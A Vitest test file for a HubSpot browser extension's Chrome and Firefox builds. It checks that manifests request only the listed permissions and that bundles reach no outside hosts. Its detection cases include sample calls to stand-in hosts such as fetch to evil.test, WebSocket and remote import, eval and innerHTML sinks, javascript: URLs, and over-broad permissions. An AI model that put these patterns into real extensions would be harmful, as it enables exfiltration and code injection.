// The built extension asks for no more than the written list, and loads nothing from elsewhere.
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { MODEL } from '@/lib/domain/reading/model.data'
import { REFUSED } from '../../build/no-html-sink'
import {
  type BuildName,
  bundleProblems,
  CONTENT_SCRIPT_LIMIT,
  manifestProblems,
  PANEL_LIMIT,
  scriptsOf,
} from '../rules/built'
import { ROOT } from '../rules/source'

const BUILDS: readonly BuildName[] = ['chrome-mv3', 'firefox-mv3']
const SCRIPT = 'content-scripts/record.js'

function at(build: BuildName, path: string): string {
  const full = join(ROOT, '.output', build, path)
  if (!existsSync(full)) throw new Error(`${build}/${path} is not there: run \`npm run build\` first`)
  return full
}

const manifestOf = (build: BuildName) => JSON.parse(readFileSync(at(build, 'manifest.json'), 'utf8'))

describe.each(BUILDS)('%s', (build) => {
  it('asks for what is on the written list', () => {
    expect(manifestProblems(build, manifestOf(build))).toEqual([])
  })

  it('holds no address of anybody else', () => {
    const files = readdirSync(at(build, ''), { recursive: true, encoding: 'utf8' })
    const texts = files.filter((path) => /\.(js|html|css)$/.test(path))
    expect(texts.length).toBeGreaterThan(3)
    expect(texts.flatMap((path) => bundleProblems(path, readFileSync(at(build, path), 'utf8')))).toEqual([])
  })

  it('holds Preact once, without the place where it would set HTML', () => {
    const files = readdirSync(at(build, ''), { recursive: true, encoding: 'utf8' })
    const scripts = files.filter((path) => path.endsWith('.js'))
    const text = scripts.map((path) => readFileSync(at(build, path), 'utf8')).join('\n')
    expect(text.split(REFUSED)).toHaveLength(2)
  })

  it(`puts at most ${CONTENT_SCRIPT_LIMIT} bytes into HubSpot's pages`, () => {
    expect(statSync(at(build, SCRIPT)).size).toBeLessThanOrEqual(CONTENT_SCRIPT_LIMIT)
    expect(manifestOf(build).content_scripts[0].js).toEqual([SCRIPT])
  })

  it(`opens the panel with at most ${PANEL_LIMIT} bytes of script, its texts included`, () => {
    const read = (path: string) => readFileSync(at(build, path), 'utf8')
    const page = scriptsOf('panel.html', read)
    const texts = readdirSync(at(build, 'chunks'))
      .map((name) => `/chunks/${name}`)
      .filter((path) => path.startsWith('/chunks/panel-') && !page.includes(path))
    expect(texts).toHaveLength(2)
    for (const language of texts) {
      const loaded = new Set([...page, ...scriptsOf(language, read)])
      const bytes = [...loaded].reduce((sum, path) => sum + statSync(at(build, path)).size, 0)
      expect(bytes).toBeLessThanOrEqual(PANEL_LIMIT)
      expect(bytes).toBeGreaterThan(PANEL_LIMIT / 2)
    }
  })

  it('leaves the model of the readers to the background, and out of what the panel loads', () => {
    const read = (path: string) => readFileSync(at(build, path), 'utf8')
    const withModel = (start: string) =>
      scriptsOf(start, read).filter((path) => read(path).includes(MODEL.source))
    expect(withModel('background.js')).toHaveLength(1)
    expect(withModel('panel.html')).toEqual([])
  })
})

describe('what would be noticed in a manifest', () => {
  const good = {
    manifest_version: 3,
    incognito: 'not_allowed',
    permissions: ['storage', 'alarms', 'scripting'],
    optional_permissions: ['notifications'],
    host_permissions: ['https://api.hubapi.com/*', 'https://*.hubspot.com/*'],
    content_scripts: [
      {
        matches: ['https://*.hubspot.com/*'],
        include_globs: ['https://app.hubspot.com/*', 'https://app-*.hubspot.com/*'],
        js: [SCRIPT],
      },
    ],
    web_accessible_resources: [{ resources: ['panel.html'], matches: ['https://*.hubspot.com/*'] }],
    content_security_policy: {
      extension_pages:
        "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
        "connect-src https://api.hubapi.com; base-uri 'none'; form-action 'none'; frame-ancestors https://*.hubspot.com",
    },
  }
  const [script] = good.content_scripts
  const csp = (from: string, to: string) => ({
    content_security_policy: {
      extension_pages: good.content_security_policy.extension_pages.replace(from, to),
    },
  })

  it('nothing in a good one', () => {
    expect(manifestProblems('firefox-mv3', good)).toEqual([])
  })

  it.each([
    ['a private window that shares nothing', { incognito: 'split' }],
    ['a private window', { incognito: undefined }],
    ['a new permission', { permissions: [...good.permissions, 'tabs'] }],
    ['a permission of the other browser', { permissions: [...good.permissions, 'sidePanel'] }],
    ['a new host', { host_permissions: [...good.host_permissions, 'https://evil.test/*'] }],
    ['every host', { host_permissions: ['<all_urls>'] }],
    ['an optional permission', { optional_permissions: ['history'] }],
    ['an optional host', { optional_host_permissions: ['https://*/*'] }],
    ['web pages that may talk to us', { externally_connectable: { matches: ['https://*.hubspot.com/*'] } }],
    ['a second script', { content_scripts: [script, script] }],
    ['a script in frames', { content_scripts: [{ ...script, all_frames: true }] }],
    ["a script in the page's world", { content_scripts: [{ ...script, world: 'MAIN' }] }],
    ['a wider script', { content_scripts: [{ ...script, include_globs: [] }] }],
    [
      'a second open page',
      { web_accessible_resources: [{ resources: ['*'], matches: ['https://*.hubspot.com/*'] }] },
    ],
    ['open to all', { web_accessible_resources: [{ resources: ['panel.html'], matches: ['<all_urls>'] }] }],
    ['no policy', { content_security_policy: {} }],
    ['inline scripts', csp("script-src 'self'", "script-src 'self' 'unsafe-inline'")],
    ['code from text', csp("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'")],
    [
      'a second API',
      csp('connect-src https://api.hubapi.com', 'connect-src https://api.hubapi.com https://evil.test'),
    ],
    ['frames', csp("base-uri 'none'", "base-uri 'none'; frame-src *")],
  ])('%s', (_, change) => {
    expect(manifestProblems('firefox-mv3', { ...good, ...change }).length).toBeGreaterThan(0)
  })
})

describe('what would be noticed in a bundle', () => {
  it.each([
    'fetch("https://evil.test/x")',
    'new WebSocket(`wss://evil.test`)',
    "import('http://cdn.test/a.js')",
    'x.rendererPackageName="react-dom"',
    'a["__reactFiber$"+b]',
    'a.innerHTML=b.__html',
    'a="https://api.hubapi.com.evil.test/"',
    'a="https://evil.test/?https://api.hubapi.com/"',
    'fetch(`https://${host}/x`)',
    'x=eval(a)',
    '//# sourceMappingURL=a.js.map',
  ])('%s', (text) => {
    expect(bundleProblems('a.js', text)).toHaveLength(1)
  })

  it.each(['<script>1</script>', '<body onload="x()">', '<a href="javascript:x">'])('%s', (text) => {
    expect(bundleProblems('a.html', text)).toHaveLength(1)
  })

  it('nothing in what is only a name', () => {
    const text = '"http://www.w3.org/2000/svg" a.innerHTML==b "https://api.hubapi.com/crm" a.eval(1)'
    expect(bundleProblems('a.js', text)).toEqual([])
  })
})

it('follows what a page loads, and what that imports statically', () => {
  const files: Record<string, string> = {
    'a.html':
      '<script type="module" src="/chunks/a.js"></script><link rel="modulepreload" href="/chunks/b.js">',
    '/chunks/a.js': 'import{a as b}from"./b.js";import"./c.js";const d=()=>import("./d.js");export{b}',
    '/chunks/b.js': 'export*from"./e.js"',
  }
  expect(scriptsOf('a.html', (path) => files[path] ?? '').sort()).toEqual(
    ['a', 'b', 'c', 'e'].map((name) => `/chunks/${name}.js`),
  )
})
